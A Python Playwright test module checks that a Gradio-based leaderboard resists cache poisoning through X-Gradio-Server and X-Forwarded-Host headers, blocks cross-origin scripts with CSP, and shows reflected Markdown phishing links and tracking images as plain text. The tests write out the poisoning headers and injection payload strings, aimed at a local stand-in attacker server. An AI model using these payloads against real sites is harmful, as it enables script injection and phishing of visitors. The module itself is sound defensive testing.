"""Page poisoning, in Chromium: no request can choose where the next visitor's page loads code from.

The attack: one anonymous ``GET /`` with ``X-Gradio-Server: <attacker>`` (or ``X-Forwarded-Host``)
made Gradio build the page with the attacker's root address, a page cache kept that copy for everybody,
and the page then loaded a script from the attacker's site. The board is a plain page now, but the
signed-in pages (``/submit/``, ``/maintainers/``) are still Gradio's. Here the attacker's site is a real
server on this machine that counts every request it gets; after the poisoned requests to every page and
configuration, a visitor opens the board, then the Submit page and the desk's, in Chromium, and neither
the visitor's pages nor the attacker's server sees a request between them.

The app is one of this module's own, and the visitor comes by ``localhost`` (the app's other loopback
name), which nobody has visited before the attacker: a copy of the page kept from an earlier visit
cannot hide the attack.
"""

from __future__ import annotations

import http.server
import threading

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import RunningApp, page_maker, start_app, stop_app

pytestmark = pytest.mark.browser
MARK = "window.__poisoned = true;"
# The plain pages (which name their own address: canonical, og:url) and the two Gradio pages (which load code by
# address), each with an element that shows it booted.
PAGES = {
    "/": "#leaderboard-table",
    "/about": "#about-examples",
    "/embed": "#board-embed",
    "/submit/": "#tab-submit",
    "/maintainers/": "#identity",
}
CONFIGS = ("/submit/config", "/maintainers/config", "/api/board", "/board.csv")


class AttackerSite:
    """A server on another origin that answers every path with a script and remembers each path asked."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the name http.server calls)
                seen.append(self.path)
                body = MARK.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"  # another origin than the visitor's localhost
        threading.Thread(target=self.server.serve_forever, name="attacker", daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def fresh_app(tmp_path_factory: pytest.TempPathFactory, browser_datasets):
    running = start_app(tmp_path_factory.mktemp("poisoning"), *browser_datasets)
    yield running
    stop_app(running)


@pytest.fixture
def visitor(chromium, fresh_app: RunningApp, request: pytest.FixtureRequest):
    yield from page_maker(chromium, fresh_app, request)


@pytest.fixture
def attacker():
    site = AttackerSite()
    yield site
    site.close()


POISONS = [
    pytest.param(lambda host: {"X-Gradio-Server": f"http://{host}"}, id="x-gradio-server"),
    pytest.param(lambda host: {"X-Forwarded-Host": host}, id="x-forwarded-host"),
]


@pytest.mark.parametrize("poison", POISONS)
def test_a_poisoned_request_cannot_change_what_the_next_visitor_loads(visitor, fresh_app: RunningApp, attacker, poison):
    url = fresh_app.url.replace("127.0.0.1", "localhost")
    for path in (*PAGES, *CONFIGS):  # the pages and their configurations, as a page cache would keep them
        answer = httpx.get(url + path, headers=poison(attacker.host), timeout=30)
        assert answer.status_code == 200, (path, answer.status_code)
        assert attacker.host not in answer.text, f"{path} answered with the attacker's address"
    page = visitor()
    elsewhere: list[str] = []
    page.on("request", lambda r: elsewhere.append(r.url) if not r.url.startswith(url) else None)
    for path, booted in PAGES.items():
        response = page.goto(url + path)
        assert response is not None
        policy = response.headers.get("content-security-policy", "")
        assert "script-src 'self'" in policy and "default-src 'self'" in policy, path
        page.wait_for_load_state("load")  # every script the page names has been fetched (or refused) by now
        expect(page.locator(booted).first).to_be_visible(timeout=60_000)  # the page booted at home
        assert not elsewhere, f"the visitor's page {path} asked another site: {elsewhere}"
        assert attacker.paths == [], f"the attacker's site was asked for {attacker.paths}"
        assert page.evaluate("window.__poisoned === undefined"), path


def test_the_csp_stops_a_script_from_another_site_even_if_a_page_names_one(new_page, app: RunningApp, attacker):
    """Defence in depth: a script element pointing elsewhere, added to the page, is refused by the policy."""
    page = new_page()
    page.goto(app.url + "/")
    expect(page.locator("#leaderboard-table")).to_be_visible(timeout=60_000)
    refused = page.evaluate(
        """url => new Promise(resolve => {
            const s = document.createElement('script');
            s.src = url;
            s.onload = () => resolve(false);
            s.onerror = () => resolve(true);
            document.head.appendChild(s);
        })""",
        f"http://{attacker.host}/static/js/iframeResizer.contentWindow.min.js",
    )
    assert refused and attacker.paths == []
    assert page.evaluate("window.__poisoned === undefined")


REFLECTED = "[Sign in again to see your score](https://{host}/login) ![](https://{host}/pixel.png) <img src=//{host}/i>"


@pytest.mark.parametrize("path", ["/", "/embed", "/?split=validation", "/compare"])
def test_a_search_shows_as_text_and_fetches_nothing(new_page, app: RunningApp, attacker, path: str):
    """Before the fix the board echoed the search into Markdown, so ``?q=[...](https://evil)`` showed a
    working phishing link and ``![](...)`` made every visitor's browser fetch the attacker's image."""
    page = new_page()
    elsewhere: list[str] = []
    page.on("request", lambda r: elsewhere.append(r.url) if attacker.host in r.url else None)
    query = REFLECTED.format(host=attacker.host)
    joiner = "&" if "?" in path else "?"
    name = "compare" if path == "/compare" else "q"  # ``/?compare=`` is an old address of the compare page
    page.goto(f"{app.url}{path}{joiner}{httpx.QueryParams({name: query})}")
    page.wait_for_load_state("load")
    body = page.locator("body")
    expect(body).to_be_visible()
    assert page.locator(f'a[href*="{attacker.host}"]').count() == 0
    assert page.locator(f'img[src*="{attacker.host}"]').count() == 0
    assert elsewhere == [] and attacker.paths == []
    if path == "/":  # the search box holds what was searched, as the words typed
        expect(page.locator('input[name="q"]')).to_have_value(query)
